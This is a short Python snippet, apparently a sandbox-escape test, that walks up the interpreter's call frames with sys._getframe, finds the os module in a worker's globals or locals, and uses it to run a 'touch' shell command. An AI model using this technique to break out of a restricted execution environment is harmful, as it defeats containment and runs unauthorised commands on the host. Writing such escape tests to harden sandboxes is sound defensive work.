# sys._getframe walks into the worker's frames and globals (§5.9).
import sys
f = sys._getframe()
while f is not None:
    for scope in (f.f_globals, f.f_locals):
        for v in list(scope.values()):
            if getattr(v, '__name__', '') == 'os' and hasattr(v, 'system'):
                v.system('touch ' + target)
    f = f.f_back
